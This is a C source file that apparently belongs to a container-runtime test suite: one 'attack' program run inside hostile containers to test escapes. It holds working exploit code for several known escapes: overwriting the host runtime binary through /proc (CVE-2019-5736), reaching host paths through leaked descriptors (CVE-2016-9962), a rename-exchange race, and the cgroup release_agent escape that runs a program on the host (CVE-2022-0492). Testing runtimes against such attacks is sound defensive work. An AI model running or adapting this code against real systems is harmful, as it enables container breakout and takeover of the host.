/* What a hostile container does: one program for the inside of the escapes' containers.
 *
 * Commands print plain lines on standard output. Status 99 means that the program itself broke, so
 * that a broken attack is never taken for a refused one. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static int broken(const char *what) {
  fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
  return 99;
}

/* A breath between two attempts, as the victim may need this CPU: 50 microseconds or a little more.
 */
static void breathe(void) { usleep(1); }

/* flip DIRECTORY: exchanges every NAME in it with NAME.evil, over and over. */
static int flip(const char *directory) {
  static char names[128][NAME_MAX + 1];
  int count = 0;
  if (chdir(directory))
    return broken(directory);
  DIR *dir = opendir(".");
  if (!dir)
    return broken(directory);
  for (struct dirent *entry; (entry = readdir(dir)) && count < 128;) {
    size_t length = strlen(entry->d_name);
    if (length > 5 && strcmp(entry->d_name + length - 5, ".evil") == 0)
      snprintf(names[count++], NAME_MAX + 1, "%.*s", (int)length - 5, entry->d_name);
  }
  closedir(dir);
  if (!count) {
    errno = ENOENT;
    return broken("nothing to flip");
  }
  puts("flipping");
  fflush(stdout);
  for (;; breathe())
    for (int i = 0; i < count; i++) {
      char evil[NAME_MAX + 6];
      snprintf(evil, sizeof evil, "%.255s.evil", names[i]);
      if (syscall(SYS_renameat2, AT_FDCWD, names[i], AT_FDCWD, evil, RENAME_EXCHANGE))
        return broken(evil);
    }
}

/* Says "reached HOW" if `path`, without its leading slash, is below `directory` or up to 16 levels
 * above. */
static int reached_from(int directory, const char *how, const char *path) {
  char climb[PATH_MAX] = "./";
  for (int level = 0; level < 16; level++) {
    char try[2 * PATH_MAX];
    snprintf(try, sizeof try, "%s%s", climb, path + 1);
    if (faccessat(directory, try, F_OK, 0) == 0) {
      printf("reached %s: %s\n", how, try);
      return 1;
    }
    strcat(climb, "../");
  }
  return 0;
}

static int reached_through_descriptors(const char *process, const char *path) {
  char fds[64];
  int found = 0;
  snprintf(fds, sizeof fds, "/proc/%s/fd", process);
  DIR *dir = opendir(fds);
  if (!dir)
    return 0;
  for (struct dirent *entry; (entry = readdir(dir));) {
    if (!isdigit((unsigned char)entry->d_name[0]))
      continue;
    char how[sizeof fds + NAME_MAX + 1];
    snprintf(how, sizeof how, "%s/%s", fds, entry->d_name);
    int fd = open(how, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
      continue;
    found += reached_from(fd, how, path);
    close(fd);
  }
  closedir(dir);
  return found;
}

/* reach PATH: looks for a host path from the root, the working directory, and every descriptor. */
static int reach(const char *path) {
  char cwd[PATH_MAX];
  ssize_t length = readlink("/proc/self/cwd", cwd, sizeof cwd - 1);
  if (length < 0)
    return broken("/proc/self/cwd");
  cwd[length] = 0;
  printf("cwd %s\n", cwd);
  int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
  int found = reached_from(root, "root", path);
  close(root);
  found += reached_from(AT_FDCWD, "cwd", path);
  found += reached_through_descriptors("self", path);
  if (!found)
    puts("nothing");
  return 0;
}

static int is_own(const struct stat *st) {
  static const char *const own[] = {"/bin/busybox", "/bin/probe", "/bin/attack"};
  for (size_t i = 0; i < sizeof own / sizeof own[0]; i++) {
    struct stat mine;
    if (stat(own[i], &mine) == 0 && mine.st_ino == st->st_ino && mine.st_dev == st->st_dev)
      return 1;
  }
  return 0;
}

/* Waits until the prey's program is not executed any more (ETXTBSY until then), and writes into it.
 */
static void overwrite(int program, const char *name) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", program);
  for (int tries = 0; tries < 1000; tries++, breathe()) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 && errno == ETXTBSY)
      continue;
    if (fd < 0) {
      printf("prey %s: open: %s\n", name, strerror(errno));
      return;
    }
    if (write(fd, "#!/overwritten\n", 15) == 15)
      printf("overwrote %s\n", name);
    else
      printf("prey %s: write: %s\n", name, strerror(errno));
    close(fd);
    return;
  }
  printf("prey %s: busy\n", name);
}

/* hunt PATH: waits for processes whose program is not of this container, and writes into that
 * program (CVE-2019-5736); looks through their descriptors for a host path (CVE-2016-9962). */
static int hunt(const char *path) {
  puts("hunting");
  fflush(stdout);
  for (;; breathe()) {
    DIR *proc = opendir("/proc");
    if (!proc)
      return broken("/proc");
    for (struct dirent *entry; (entry = readdir(proc));) {
      if (!isdigit((unsigned char)entry->d_name[0]))
        continue;
      char exe[32 + NAME_MAX], name[PATH_MAX];
      snprintf(exe, sizeof exe, "/proc/%s/exe", entry->d_name);
      int program = open(exe, O_RDONLY | O_CLOEXEC);
      struct stat st;
      if (program < 0)
        continue;
      if (fstat(program, &st) == 0 && !is_own(&st)) {
        ssize_t length = readlink(exe, name, sizeof name - 1);
        name[length > 0 ? length : 0] = 0;
        reached_through_descriptors(entry->d_name, path);
        overwrite(program, name);
        fflush(stdout);
      }
      close(program);
    }
    closedir(proc);
  }
}

/* Run as the dynamic loader of another program, or as one of its libraries would be: keeps that
 * program open, gets out of the way, and overwrites it. */
static int trojan(void) {
  char number[16];
  int program = open("/proc/self/exe", O_RDONLY);
  if (program < 0)
    return broken("/proc/self/exe");
  snprintf(number, sizeof number, "%d", program);
  execl("/bin/attack", "attack", "overwrite", number, NULL);
  return broken("/bin/attack");
}

/* environ FILE: appends the environment and the working directory (as an OCI hook). */
static int tell_environment(const char *path) {
  extern char **environ;
  char cwd[PATH_MAX];
  FILE *file = fopen(path, "a");
  if (!file)
    return broken(path);
  for (char **variable = environ; *variable; variable++)
    fprintf(file, "env %s\n", *variable);
  fprintf(file, "cwd %s\n", getcwd(cwd, sizeof cwd) ? cwd : "?");
  while (getchar() != EOF)
    ;
  return fclose(file) ? broken(path) : 0;
}

static int put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0)
    return -1;
  ssize_t written = write(fd, text, strlen(text));
  int saved = errno;
  close(fd);
  errno = saved;
  return written < 0 ? -1 : 0;
}

static void say(const char *step, long result) {
  printf("%s: %s\n", step, result < 0 ? strerror(errno) : "done");
}

/* release-agent PROGRAM: becomes root of new namespaces, mounts a cgroup v1 hierarchy, and has the
 * kernel run PROGRAM on the host when a cgroup in it gets empty (CVE-2022-0492). */
static int release_agent(const char *program) {
  static const char *const controllers[] = {"memory",  "pids",    "cpuset",
                                            "devices", "freezer", "rdma"};
  uid_t uid = getuid();
  char map[64];
  snprintf(map, sizeof map, "0 %u 1", uid);
  int unshared = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP);
  say("unshare", unshared);
  if (!unshared)
    say("uid map", put("/proc/self/uid_map", map));
  for (size_t i = 0; i < sizeof controllers / sizeof controllers[0]; i++) {
    char where[32], file[96], group[64];
    snprintf(where, sizeof where, "/tmp/%s", controllers[i]);
    mkdir(where, 0755);
    int mounted = mount("cgroup", where, "cgroup", 0, controllers[i]);
    say("mount", mounted);
    if (mounted)
      continue;
    snprintf(file, sizeof file, "%s/release_agent", where);
    say("release_agent", put(file, program));
    snprintf(group, sizeof group, "%s/escape", where);
    say("mkdir", mkdir(group, 0755));
    snprintf(file, sizeof file, "%s/notify_on_release", group);
    say("notify_on_release", put(file, "1"));
    rmdir(group);
  }
  return 0;
}

int main(int argc, char **argv) {
  struct stat loaded;
  if (stat("/proc/self/exe", &loaded) == 0 && !is_own(&loaded) && access("/bin/attack", X_OK) == 0)
    return trojan();
  const char *command = argc == 3 ? argv[1] : "", *argument = argv[2];
  if (strcmp(command, "flip") == 0)
    return flip(argument);
  if (strcmp(command, "reach") == 0)
    return reach(argument);
  if (strcmp(command, "hunt") == 0)
    return hunt(argument);
  if (strcmp(command, "overwrite") == 0) {
    overwrite(atoi(argument), "the runtime");
    return 0;
  }
  if (strcmp(command, "environ") == 0)
    return tell_environment(argument);
  if (strcmp(command, "release-agent") == 0)
    return release_agent(argument);
  fprintf(stderr, "attack: unknown command '%s'\n", command);
  return 99;
}
